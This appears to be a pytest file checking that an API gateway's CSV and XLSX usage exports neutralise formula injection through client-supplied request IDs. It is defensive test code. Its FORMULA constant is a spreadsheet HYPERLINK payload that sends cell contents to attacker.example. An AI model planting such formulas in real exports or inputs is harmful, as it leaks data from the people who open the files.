"""Issue 23 #5: a client-chosen text never becomes a live formula in an export.

Before: an ``X-Request-Id`` of ``=HYPERLINK(...)`` was adopted, stored in the record, and
written as a formula in the XLSX export (XlsxWriter turned strings starting with ``=`` into
formulas) and as a ``=`` cell in the CSV export.
"""

from __future__ import annotations

import csv
import io
import time
import zipfile
from xml.etree import ElementTree

import httpx
import pytest

from gateway.config.runtime import Runtime
from gateway.http.admin.analytics import to_xlsx
from gateway.proxy.context import RequestContext
from gateway.secret import Secret
from gateway.usage.export import to_csv
from tests.conftest import StartGateway

ADMIN = "export-injection-admin-token-0123456789"
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheet_cells(data: bytes) -> dict[str, ElementTree.Element]:
    """Each cell of the first sheet by reference (``A1``)."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    return {cell.attrib["r"]: cell for cell in sheet.iter(f"{NS}c")}


def shared_strings(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        if "xl/sharedStrings.xml" not in book.namelist():
            return []
        root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
    return ["".join(t.text or "" for t in si.iter(f"{NS}t")) for si in root]


def test_xlsx_writes_every_text_as_a_string() -> None:
    record = {"request_id": FORMULA, "user": "@SUM(1+1)", "model": "http://x.example/",
              "prompt_tokens": 12, "cost_usd": 0.5, "tags": ["-2+3"]}  # fmt: skip
    data = to_xlsx([record])
    cells = sheet_cells(data)
    assert not [ref for ref, cell in cells.items() if cell.find(f"{NS}f") is not None]
    strings = shared_strings(data)
    request_id = cells["C2"]  # the third column
    assert request_id.attrib.get("t") == "s"
    assert strings[int(request_id.findtext(f"{NS}v") or "")] == FORMULA
    assert cells["K2"].attrib.get("t") is None  # prompt_tokens: still a number
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert not [n for n in book.namelist() if "rels" in n and "sheet1" in n]  # no links


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_formula_starts(start: str) -> None:
    text = f"{start}HYPERLINK(1)"
    exported = to_csv([{"request_id": text, "tags": [text], "prompt_tokens": -1}])
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["request_id"] == "'" + text
    assert row["tags"] == "'" + text
    assert row["prompt_tokens"] == "-1"  # numbers are not text


def test_csv_keeps_a_carriage_return_inside_its_cell() -> None:
    """A bare CR used to end the row for spreadsheet readers: the rest became a new row."""
    exported = to_csv([{"tags": ["a\r=HYPERLINK(1)"], "request_id": 'x"y'}])
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["tags"] == "a\r=HYPERLINK(1)" and row["request_id"] == 'x"y'


@pytest.mark.parametrize(
    ("incoming", "kept"),
    [
        ("req-abc_1.2:3", True),
        ("A" * 128, True),
        ("A" * 129, False),
        (FORMULA, False),
        ("abc def", False),
        ("abc\u00e9", False),
        ("", False),
    ],
)
def test_request_ids_from_clients_are_kept_only_when_safe(incoming: str, kept: bool) -> None:
    ctx = RequestContext.begin(incoming, None, lambda: "req_generated")  # type: ignore[arg-type]
    assert ctx.request_id == (incoming if kept else "req_generated")


def test_an_unsafe_request_id_is_replaced_end_to_end(start_gateway: StartGateway) -> None:
    gw = start_gateway(runtime=Runtime(admin_token=Secret(ADMIN)))
    admin = {"authorization": f"Bearer {ADMIN}"}
    with httpx.Client(base_url=gw.url, timeout=10) as http:
        answer = http.post(
            "/v1/chat/completions",
            headers={"authorization": f"Bearer {gw.key()}", "x-request-id": FORMULA},
            json={"model": "ok", "messages": [{"role": "user", "content": "hi"}]},
        )
        assert answer.status_code == 200
        given = answer.headers["x-request-id"]
        assert given != FORMULA and given.startswith("req_")
        deadline = time.monotonic() + 10
        exported = b""
        while time.monotonic() < deadline:
            exported = http.get("/v1/admin/usage/export?format=xlsx", headers=admin).content
            if given in shared_strings(exported):
                break
            time.sleep(0.05)
        assert given in shared_strings(exported)
        assert not any("HYPERLINK" in s for s in shared_strings(exported))
        csv_text = http.get("/v1/admin/usage/export?format=csv", headers=admin).text
        assert "HYPERLINK" not in csv_text and given in csv_text
